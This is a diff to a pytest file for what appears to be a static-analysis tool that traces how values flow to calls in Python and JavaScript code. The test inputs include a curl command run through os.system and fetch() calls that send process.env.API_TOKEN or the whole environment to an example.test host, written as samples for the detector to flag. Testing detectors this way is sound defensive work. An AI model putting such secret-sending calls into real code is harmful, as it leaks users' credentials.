@@ -2,7 +2,9 @@
 
 import pytest
 
+from vetting.reading import programs as p
 from vetting.reading.again import Again
+from vetting.reading.javascript import _Flow, read_javascript
 from vetting.reading.python_code import read_python
 
 
@@ -60,3 +62,26 @@ def test_a_name_that_comes_to_stand_for_a_deed_late_is_followed():
     program = read_python("import os\ndef go(what):\n    run(what)\ngo('curl example.test')\nrun = os.system\n")
     call = next(one for one in program.calls if one.name == "os.system")
     assert "curl example.test" in call.texts
+
+
+@pytest.mark.parametrize("order", [1, -1])
+def test_a_value_of_javascript_is_handed_on_along_and_against_the_order_of_the_text(order):
+    steps = ["let v0 = 'https://example.test/in' + process.env.API_TOKEN", *(f"let v{n + 1} = v{n}" for n in range(30))]
+    program = read_javascript(";\n".join(steps[::order]) + ";\nfetch(v30);\n")
+    call = next(one for one in program.calls if one.name == "fetch")
+    assert "https://example.test/in" in call.texts and call.secrets == {"API_TOKEN"} and not program.cut
+
+
+def test_what_a_function_of_javascript_gives_late_reaches_who_called_it_early():
+    program = read_javascript(
+        "const a = get();\nfetch('https://example.test', a);\nfunction get() { return b }\nb = process.env;\n"
+    )
+    call = next(one for one in program.calls if one.name == "fetch")
+    assert p.ENV_ALL in call.labels
+
+
+def test_a_step_of_javascript_that_asked_for_nothing_new_is_gone_once(monkeypatch):
+    gone = []
+    monkeypatch.setattr(_Flow, "follow", lambda self, at, follow=_Flow.follow: gone.append(at) or follow(self, at))
+    read_javascript("const a = 1;\nconst b = 2;\nconst c = d;\nconst d = 'late';\n")
+    assert sorted(map(gone.count, set(gone))) == [1, 1, 1, 2]
